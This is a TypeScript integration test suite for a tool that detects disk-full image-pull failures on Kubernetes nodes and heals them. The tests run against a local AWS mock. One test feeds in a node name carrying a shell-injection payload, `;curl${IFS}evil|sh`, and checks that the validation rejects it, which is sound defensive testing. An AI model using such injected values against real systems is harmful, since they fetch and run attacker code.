import { readFile } from 'node:fs/promises';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import {
  DescribeLaunchTemplateVersionsCommand,
  EC2Client,
} from '@aws-sdk/client-ec2';
import { ListCommandsCommand, SSMClient } from '@aws-sdk/client-ssm';
import { DynamoDBDocumentClient, GetCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LOCAL_NAMES } from '../../cli/local/environment.ts';
import {
  blockDevicesOf,
  DEFAULT_FLEET,
  FleetFile,
} from '../../cli/local/fleet.ts';
import { parseEvents } from '../../cli/local/input.ts';
import { renderJson, renderTimeline } from '../../cli/local/output.ts';
import { type LocalRunResult, runLocal } from '../../cli/local/runner.ts';
import { DETAIL_TYPES } from '../../events/detail-types.ts';
import { allowedActions, grants } from '../helpers/iam.ts';

const SEED = new URL(
  '../../events/samples/seed-incident.jsonl',
  import.meta.url
);
const NODE = 'ip-10-0-1-149.ec2.internal';

const clientsOf = (result: LocalRunResult) => {
  const config = {
    endpoint: result.endpoint,
    region: 'us-east-1',
    maxAttempts: 1,
    credentials: { accessKeyId: 'local', secretAccessKey: 'local' },
  };
  return {
    ec2: new EC2Client(config),
    ssm: new SSMClient(config),
    documents: DynamoDBDocumentClient.from(new DynamoDBClient(config)),
  };
};

/**
 * The calls a run's functions made that their roles in infra/serverless/
 * iam.yml do not allow: on AWS, each would fail with AccessDenied.
 */
async function deniedCalls(result: LocalRunResult): Promise<string[]> {
  const allowed = await allowedActions();
  // serverless.yml names functions in camelCase (pruneResult).
  const roleOf = (fn: string) =>
    allowed[fn.replace(/-(\w)/g, (_, c: string) => c.toUpperCase())];
  return Object.entries(result.awsCalls).flatMap(([fn, actions]) => {
    const role = roleOf(fn);
    if (role === undefined) return [`${fn}: no role in serverless.yml`];
    return actions.filter((a) => !grants(role, a)).map((a) => `${fn}: ${a}`);
  });
}

const types = (result: LocalRunResult) =>
  result.busEvents.map((e) => e['detail-type']);
const ofType = (result: LocalRunResult, type: string) =>
  result.busEvents.filter((e) => e['detail-type'] === type);

describe('Feature: the local runtime replays the seed incident end to end', () => {
  let result: LocalRunResult;

  beforeAll(async () => {
    const items = parseEvents(await readFile(SEED, 'utf8'));
    result = await runLocal({ items, keepMoto: true, node: 'simulated' });
  });
  afterAll(async () => {
    await result.moto?.stop();
  });

  it('classifies the seed failure as disk_full on the seed node', () => {
    // Assess
    const diskFull = ofType(
      result,
      DETAIL_TYPES.imagePullFailureClassified
    ).filter((e) => e.detail.class === 'disk_full');
    expect(diskFull).toHaveLength(1);
    expect(diskFull[0]?.detail).toMatchObject({
      node: { name: NODE },
      pod: { namespace: 'inference', name: 'triton-79569cfbbc-m2wcc' },
      image: '478253497479.dkr.ecr.us-east-1.amazonaws.com/triton:resnet50',
      remedy: 'prune',
      dryRun: false,
    });
  });

  it('carries, in order, the prune, its completion, the roll, the resolution', () => {
    // Assess
    const order = [
      DETAIL_TYPES.incidentOpened,
      DETAIL_TYPES.nodePruneRequested,
      DETAIL_TYPES.ssmCommandInvocationStatusChange,
      DETAIL_TYPES.nodePruneCompleted,
      DETAIL_TYPES.volumeRollRequested,
      DETAIL_TYPES.volumeRollStarted,
      DETAIL_TYPES.volumeRollCompleted,
      DETAIL_TYPES.incidentResolved,
    ];
    const seen = types(result).filter((t) => (order as string[]).includes(t));
    expect(seen).toEqual(order);
    const completed = ofType(result, DETAIL_TYPES.nodePruneCompleted)[0]
      ?.detail;
    expect(completed).toMatchObject({ status: 'Success', outcome: 'roll' });
    const report = completed?.report as { bytesFreed: number } | undefined;
    expect(report?.bytesFreed).toBeGreaterThan(0);
    const roll = ofType(result, DETAIL_TYPES.volumeRollStarted)[0]?.detail;
    expect(roll).toMatchObject({
      oldSizeGiB: 20,
      deviceName: '/dev/xvda',
      nodegroup: { kind: 'managed', name: 'gpu' },
      launchTemplate: { oldVersion: 1, newVersion: 2 },
      rollout: { kind: 'eks-nodegroup-update' },
    });
    expect(roll?.newSizeGiB as number).toBeGreaterThanOrEqual(100);
    const resolved = ofType(result, DETAIL_TYPES.incidentResolved)[0]?.detail;
    expect(resolved?.mttrSeconds as number).toBeGreaterThan(0);
  });

  it('leaves a launch template version 2 in EC2 with only the root volume grown', async () => {
    // Prepare
    const { ec2 } = clientsOf(result);
    const node = result.nodes[0];

    // Act
    const out = await ec2.send(
      new DescribeLaunchTemplateVersionsCommand({
        LaunchTemplateId: node?.launchTemplateId,
        Versions: ['1', '2'],
      })
    );

    // Assess
    const [v1, v2] = [1, 2].map(
      (n) =>
        out.LaunchTemplateVersions?.find((v) => v.VersionNumber === n)
          ?.LaunchTemplateData
    );
    const [root] = blockDevicesOf(result.fleet.nodes[0] as never);
    expect(v1?.BlockDeviceMappings).toEqual([root]);
    expect(v2?.BlockDeviceMappings).toEqual([
      { ...root, Ebs: { ...root?.Ebs, VolumeSize: 100 } },
    ]);
    expect({ ...v2, BlockDeviceMappings: undefined }).toEqual({
      ...v1,
      BlockDeviceMappings: undefined,
    });
  });

  it('sent one SSM command, kept a resolved incident with its timeline, and told on-call', async () => {
    // Prepare
    const { ssm, documents } = clientsOf(result);

    // Act
    const commands = await ssm.send(new ListCommandsCommand({}));
    const incident = await documents.send(
      new GetCommand({
        TableName: LOCAL_NAMES.table,
        Key: { pk: `INCIDENT#live#gpu-inference#${NODE}` },
      })
    );

    // Assess
    expect(commands.Commands?.map((c) => c.DocumentName)).toEqual([
      LOCAL_NAMES.pruneDocument,
    ]);
    expect(commands.Commands?.[0]?.Parameters).toEqual({ DryRun: ['false'] });
    expect(incident.Item?.status).toBe('resolved');
    const steps: string[] = incident.Item?.record.timeline.map(
      (t: { step: string }) => t.step
    );
    expect(steps.filter((s) => s !== 'joined')).toEqual([
      'classified',
      'prune-requested',
      'prune-completed',
      'roll-started',
      'roll-completed',
      'pod-restarted',
      'resolved',
    ]);
    // The stuck pod was restarted once the prune left room, and its
    // replacement's Started proved the recovery.
    expect(incident.Item?.record.timeline.at(-2)).toMatchObject({
      step: 'pod-restarted',
      pod: { namespace: 'inference', name: 'triton-79569cfbbc-m2wcc' },
      owner: { kind: 'ReplicaSet', name: 'triton-79569cfbbc' },
    });
    const resolved = result.busEvents.find(
      (e) => e['detail-type'] === DETAIL_TYPES.incidentResolved
    );
    expect(resolved?.detail).toMatchObject({
      resolvedBy: {
        reason: 'Started',
        pod: { name: expect.stringMatching(/^triton-79569cfbbc-[a-z0-9]{5}$/) },
      },
      restart: { pod: { name: 'triton-79569cfbbc-m2wcc' } },
    });
    // The causeless Error: ErrImagePull / BackOff events joined the incident.
    expect(steps).toContain('joined');
    const chatbot = result.notifications.map((n) => JSON.parse(n.message));
    expect(chatbot.map((c) => c.metadata.eventType).sort()).toEqual(
      [
        DETAIL_TYPES.incidentOpened,
        DETAIL_TYPES.nodePruneRequested,
        DETAIL_TYPES.nodePruneCompleted,
        DETAIL_TYPES.volumeRollStarted,
        DETAIL_TYPES.volumeRollCompleted,
        DETAIL_TYPES.podRestartRequested,
        DETAIL_TYPES.podRestarted,
        DETAIL_TYPES.incidentResolved,
      ].sort()
    );
    expect(new Set(chatbot.map((c) => c.metadata.threadId)).size).toBe(1);
  });

  it("made only the AWS calls its functions' roles allow", async () => {
    // Assess
    expect(Object.keys(result.awsCalls).sort()).toEqual([
      'classify',
      'notify',
      'prune-result',
      'remediate',
      'resolve',
      'roll-volume',
      'watch-rollout',
    ]);
    expect(result.awsCalls['roll-volume']).toContain(
      'ec2:CreateLaunchTemplateVersion'
    );
    expect(await deniedCalls(result)).toEqual([]);
  });

  it("says what it filled in moto's place, and prints both outputs", () => {
    // Act
    const text = renderTimeline(result, 'seed');
    const json = renderJson(result)
      .split('\n')
      .map((l) => JSON.parse(l));

    // Assess
    expect(result.notes.some((n) => /moto runs no commands/.test(n.text))).toBe(
      true
    );
    expect(
      result.notes.some((n) =>
        /UpdateNodegroupVersion .* answered in-process/.test(n.text)
      )
    ).toBe(true);
    expect(text).toContain('SIMULATED node');
    expect(text).toContain('/dev/xvda 20 GiB → 100 GiB');
    expect(json).toHaveLength(
      result.busEvents.length + result.notifications.length
    );
    expect(Object.keys(json[0] ?? {})).toEqual([
      'time',
      'source',
      'detail-type',
      'detail',
    ]);
    // The bus events in order, then what on-call got.
    const events = json.slice(0, result.busEvents.length);
    const notifications = json.slice(result.busEvents.length);
    expect(events.map((e) => e['detail-type'])).toEqual(
      result.busEvents.map((e) => e['detail-type'])
    );
    expect(notifications.map((n) => Object.keys(n))).toEqual(
      notifications.map(() => ['time', 'notification'])
    );
    expect(
      notifications.map((n) => n.notification.message.metadata.eventType).sort()
    ).toEqual(
      result.notifications
        .map((n) => JSON.parse(n.message).metadata.eventType)
        .sort()
    );
    expect(notifications.every((n) => !Number.isNaN(Date.parse(n.time)))).toBe(
      true
    );
    expect(notifications[0]?.notification.attributes.cluster).toBe(
      'gpu-inference'
    );
  });
});

describe('Feature: the same seed events three times prune once and roll once', () => {
  it('sends one command and creates one launch template version', async () => {
    // Prepare
    const items = parseEvents(await readFile(SEED, 'utf8'));

    // Act
    const result = await runLocal({
      items,
      repeat: 3,
      keepMoto: true,
      node: 'simulated',
    });

    // Assess
    try {
      expect(ofType(result, DETAIL_TYPES.nodePruneRequested)).toHaveLength(1);
      expect(ofType(result, DETAIL_TYPES.volumeRollStarted)).toHaveLength(1);
      expect(ofType(result, DETAIL_TYPES.incidentOpened)).toHaveLength(1);
      const { ssm, ec2 } = clientsOf(result);
      expect(
        (await ssm.send(new ListCommandsCommand({}))).Commands
      ).toHaveLength(1);
      const versions = await ec2.send(
        new DescribeLaunchTemplateVersionsCommand({
          LaunchTemplateId: result.nodes[0]?.launchTemplateId,
        })
      );
      expect(versions.LaunchTemplateVersions).toHaveLength(2);
    } finally {
      await result.moto?.stop();
    }
  });
});

describe('Feature: malformed events are dead-lettered with the reason; the rest go on', () => {
  it('keeps a non-JSON line, a wrong shape and a hostile node name, and still heals the node', async () => {
    // Prepare
    const seed = await readFile(SEED, 'utf8');
    const hostile = JSON.parse(seed.split('\n')[5] as string);
    // A shell would expand this; Kubernetes would never name a node so.
    hostile.source.host = `ip-10-0-1-149.ec2.internal;curl$\{IFS}evil|sh`;
    const wrongShape = {
      kind: 'Event',
      involvedObject: { kind: 'Pod', namespace: 'default', name: 'p' },
      reason: 'Failed',
      type: 'Warning',
      message: 'no metadata at all',
    };
    const input = [
      '{this is not json',
      JSON.stringify(wrongShape),
      JSON.stringify(hostile),
      seed,
    ].join('\n');

    // Act
    const result = await runLocal({
      items: parseEvents(input),
      node: 'simulated',
    });

    // Assess
    const reasons = result.deadLetters.map((d) => `${d.queue}: ${d.reason}`);
    expect(reasons).toHaveLength(3);
    expect(reasons).toContainEqual(
      expect.stringMatching(/^forwarder: line 1: line is not JSON/)
    );
    expect(reasons).toContainEqual(
      expect.stringMatching(
        /^classify: the event does not match its contract: .*metadata/
      )
    );
    expect(reasons).toContainEqual(
      expect.stringMatching(
        /^classify: the event does not match its contract: .*host: node name must be an RFC 1123 DNS subdomain/
      )
    );
    expect(ofType(result, DETAIL_TYPES.incidentResolved)).toHaveLength(1);
    expect(
      JSON.stringify(ofType(result, DETAIL_TYPES.nodePruneRequested))
    ).not.toContain('curl');
  });
});

describe('Feature: a line the runtime cannot feed is a dead letter of its own; the run goes on', () => {
  it('dead-letters a line without involvedObject, one nested 3,000 deep and one SQS cannot carry, heals the node, and prints them all', async () => {
    // Prepare
    const seed = await readFile(SEED, 'utf8');
    const noObject = JSON.parse(seed.split('\n')[0] as string);
    delete noObject.involvedObject;
    const deep = `${'{"a":'.repeat(2999)}{}${'}'.repeat(2999)}`;
    // A NUL and a lone surrogate: characters an SQS message may not hold.
    const unsendable = '{"message":"\u0000\ud800"';
    const input = [JSON.stringify(noObject), deep, unsendable, seed].join('\n');

    // Act
    const result = await runLocal({
      items: parseEvents(input),
      node: 'simulated',
    });

    // Assess
    const reasons = result.deadLetters.map((d) => `${d.queue}: ${d.reason}`);
    expect(reasons).toEqual([
      expect.stringMatching(
        /^forwarder: line 1: not a Kubernetes Event: .*involvedObject/
      ),
      'forwarder: line 2: line is nested deeper than 64 levels',
      expect.stringMatching(/^forwarder: line 3: line is not JSON/),
    ]);
    // One incident resolved (a record SQS redelivers on a busy machine
    // emits its stored decision again: the same incident, twice).
    const resolved = ofType(result, DETAIL_TYPES.incidentResolved);
    expect(new Set(resolved.map((e) => e.detail.incidentId)).size).toBe(1);
    const text = renderTimeline(result, 'input');
    expect(text).toContain(
      'forwarder: line 1: not a Kubernetes Event: involvedObject is missing or not an object'
    );
    const dead = renderJson(result)
      .split('\n')
      .map((l) => JSON.parse(l))
      .filter((l) => 'deadLetter' in l);
    expect(dead.map((l) => l.deadLetter.reason)).toEqual(
      result.deadLetters.map((d) => d.reason)
    );
    expect(dead[1]?.deadLetter.body).toBe(deep);
  }, 180_000);
});

describe('Feature: a self-managed node group is rolled by an instance refresh', () => {
  it('refreshes the group, follows the refresh to its end, and stays within its roles', async () => {
    // Prepare: the seed's node, in an Auto Scaling group of its own.
    const [seedNode] = DEFAULT_FLEET.nodes;
    const fleet = FleetFile.parse({
      ...DEFAULT_FLEET,
      nodes: [
        { ...seedNode, nodegroup: { kind: 'self-managed', name: 'gpu-asg' } },
      ],
    });
    const items = parseEvents(await readFile(SEED, 'utf8'));

    // Act
    const result = await runLocal({ items, fleet, node: 'simulated' });

    // Assess
    const started = ofType(result, DETAIL_TYPES.volumeRollStarted);
    expect(started).toHaveLength(1);
    expect(started[0]?.detail).toMatchObject({
      rollout: { kind: 'asg-instance-refresh' },
    });
    expect(ofType(result, DETAIL_TYPES.volumeRollCompleted)).toHaveLength(1);
    expect(result.awsCalls['roll-volume']).toContain(
      'autoscaling:StartInstanceRefresh'
    );
    expect(result.awsCalls['watch-rollout']).toContain(
      'autoscaling:DescribeInstanceRefreshes'
    );
    expect(await deniedCalls(result)).toEqual([]);
  });
});

describe('Feature: containerd on a volume of its own (the nodeadm layout) is the volume that grows', () => {
  it('rolls the group from events/samples/fleets/al2023-data-volume.json by growing /dev/xvdb, not the root', async () => {
    // Prepare: AL2023, a 100 GiB root and containerd on a 20 GiB /dev/xvdb.
    const fleet = FleetFile.parse(
      JSON.parse(
        await readFile(
          new URL(
            '../../events/samples/fleets/al2023-data-volume.json',
            import.meta.url
          ),
          'utf8'
        )
      )
    );
    const items = parseEvents(await readFile(SEED, 'utf8'));

    // Act
    const result = await runLocal({
      items,
      fleet,
      keepMoto: true,
      node: 'simulated',
    });

    // Assess
    try {
      const node = result.nodes[0];
      const completed = ofType(result, DETAIL_TYPES.nodePruneCompleted)[0]
        ?.detail;
      expect(completed).toMatchObject({
        outcome: 'roll',
        volumeSizeGiB: 20,
        volumeDeviceName: '/dev/xvdb',
        volumeRule: 'prune-report',
        report: {
          fsBytesTotal: 20 * 1024 ** 3,
          volume: { id: node?.volumeIds['/dev/xvdb'], device: '/dev/nvme1n1' },
        },
      });
      expect(
        ofType(result, DETAIL_TYPES.volumeRollRequested)[0]?.detail
      ).toMatchObject({ deviceName: '/dev/xvdb', volumeRule: 'prune-report' });
      expect(
        ofType(result, DETAIL_TYPES.volumeRollStarted)[0]?.detail
      ).toMatchObject({
        deviceName: '/dev/xvdb',
        oldSizeGiB: 20,
        newSizeGiB: 100,
        launchTemplate: { oldVersion: 1, newVersion: 2 },
      });
      const out = await clientsOf(result).ec2.send(
        new DescribeLaunchTemplateVersionsCommand({
          LaunchTemplateId: node?.launchTemplateId,
          Versions: ['1', '2'],
        })
      );
      const [v1, v2] = [1, 2].map(
        (n) =>
          out.LaunchTemplateVersions?.find((v) => v.VersionNumber === n)
            ?.LaunchTemplateData
      );
      const [root, data] = blockDevicesOf(result.fleet.nodes[0] as never);
      expect(v1?.BlockDeviceMappings).toEqual([root, data]);
      expect(v2?.BlockDeviceMappings).toEqual([
        root,
        { ...data, Ebs: { ...data?.Ebs, VolumeSize: 100 } },
      ]);
      expect(v2?.UserData).toBe(v1?.UserData);
      expect(
        ofType(result, DETAIL_TYPES.incidentResolved).length
      ).toBeGreaterThan(0);
      expect(renderTimeline(result, 'seed')).toContain(
        'containerd on /dev/xvdb 20 GiB'
      );
      expect(await deniedCalls(result)).toEqual([]);
    } finally {
      await result.moto?.stop();
    }
  }, 180_000);
});

describe('Feature: a Bottlerocket node gets the Bottlerocket prune document', () => {
  it('sends the Bottlerocket document, rolls its data volume, and resolves', async () => {
    // Prepare: the seed's node on Bottlerocket, images on its data volume.
    const [seedNode] = DEFAULT_FLEET.nodes;
    const fleet = FleetFile.parse({
      ...DEFAULT_FLEET,
      nodes: [
        {
          ...seedNode,
          amiFamily: 'bottlerocket',
          rootVolumeGiB: 4,
          dataVolumeGiB: 20,
        },
      ],
    });
    const items = parseEvents(await readFile(SEED, 'utf8'));

    // Act
    const result = await runLocal({ items, fleet, node: 'simulated' });

    // Assess
    const requested = ofType(result, DETAIL_TYPES.nodePruneRequested);
    expect(requested.map((e) => e.detail.documentName)).toEqual([
      LOCAL_NAMES.pruneBottlerocketDocument,
    ]);
    expect(
      ofType(result, DETAIL_TYPES.volumeRollStarted)[0]?.detail
    ).toMatchObject({ deviceName: '/dev/xvdb', oldSizeGiB: 20 });
    expect(ofType(result, DETAIL_TYPES.incidentResolved)).toHaveLength(1);
    expect(await deniedCalls(result)).toEqual([]);
  });
});
